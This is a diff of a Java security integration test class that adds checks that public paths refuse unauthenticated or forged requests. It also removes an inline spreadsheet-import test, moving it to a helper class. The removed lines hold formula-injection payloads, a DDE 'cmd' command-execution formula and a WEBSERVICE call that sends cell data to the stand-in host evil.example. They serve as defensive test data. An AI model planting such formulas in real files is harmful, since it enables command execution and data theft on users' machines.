@@ -9,7 +9,6 @@ import java.nio.file.Files;
 import java.nio.file.Path;
 import java.time.Duration;
 import java.time.Instant;
-import java.util.Arrays;
 import java.util.List;
 import java.util.Map;
 import java.util.Set;
@@ -186,6 +185,44 @@ class AttackIT {
   }
 
   @Test
+  void onlyPublicPagesAnswerWithoutAnAccountAndKnowNobody() {
+    SignedIn me = signIn();
+    for (String path :
+        new String[] {
+          "/indicators/public/sets", "/core/public/cycles", "/web/public/parts", "/no/public/x"
+        }) {
+      Wire.Reply reply =
+          wire.send(
+              "GET " + path + " HTTP/1.1",
+              "Host: x",
+              "Connection: close",
+              "Cookie: " + me.cookie(),
+              "",
+              "");
+      assertThat(reply.status()).as(path).isIn(401, 404);
+      assertThat(reply.header("Set-Cookie").orElse("")).doesNotContain("baton_session");
+    }
+    for (String path :
+        new String[] {
+          "/api/public/x", "/api/indicators/society", "/indicators/public/", "/indicators/society/"
+        }) {
+      Wire.Reply reply =
+          wire.send("GET " + path + " HTTP/1.1", "Host: x", "Connection: close", "", "");
+      assertThat(reply.status()).as(path).isEqualTo(401);
+    }
+    Wire.Reply forged =
+        wire.send(
+            "POST /indicators/public/society/x HTTP/1.1",
+            "Host: x",
+            "Connection: close",
+            "Content-Type: application/x-www-form-urlencoded",
+            "Content-Length: 5",
+            "",
+            "who=x");
+    assertThat(forged.status()).isEqualTo(403);
+  }
+
+  @Test
   void requestsCannotBeSmuggled() {
     String start = "POST /api/access/session HTTP/1.1";
     String inner = "GET /health HTTP/1.1\r\nHost: x\r\n\r\n";
@@ -291,34 +328,7 @@ class AttackIT {
 
   @Test
   void whatAWorkbookCallsAFormulaIsNeitherRunNorKept(@TempDir Path folder) throws IOException {
-    List<String> names = List.of("=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)");
-    Workbook workbook = new Workbook();
-    workbook.row(cells("code", "name_zh", "name_en", "kind", "valid_from"));
-    for (int i = 0; i < names.size(); i++) {
-      String[] row = cells("F" + i, names.get(i), "", "formula", "2020-01-01");
-      String came = i == 0 ? "=WHAT(IT)" : names.get(i);
-      row[2] = Workbook.formula("WEBSERVICE(\"http://evil.example/\"&A1)", came);
-      workbook.row(row);
-    }
-    Path file = Files.write(folder.resolve("formulas.xlsx"), workbook.bytes());
-    Answer taken = admin.upload("/api/core/imports/units?file=formulas.xlsx", file);
-    assertThat(taken.status()).as(taken.body()).isEqualTo(200);
-    for (int i = 0; i < names.size(); i++) {
-      Answer unit = admin.get("/api/core/units/F" + i);
-      assertThat(unit.body()).contains(names.get(i)).doesNotContain("WEBSERVICE", "evil.example");
-    }
-    Answer page = admin.send("GET", "/core/units/?kind=formula", null, "Accept", "text/html");
-    assertThat(page.body()).contains("@SUM(1)").doesNotContain("WEBSERVICE", "evil.example");
-    workbook.row(cells("G", "", "", "formula", "=1+1")).row(cells("@H", "", "", "x", "-2+3"));
-    Files.write(file, workbook.bytes());
-    Answer mistakes =
-        admin.upload("/api/core/imports/units?file=formulas.xlsx", file, "Accept", "text/csv");
-    assertThat(mistakes.status()).isEqualTo(422);
-    assertThat(mistakes.body()).contains("'=1+1", "'-2+3").doesNotContain(",=", ",-", ",@", ",+");
-  }
-
-  private static String[] cells(String... words) {
-    return Arrays.stream(words).map(Workbook::words).toArray(String[]::new);
+    new FormulaWorkbook(admin).isNeitherRunNorKept(folder);
   }
 
   @Test
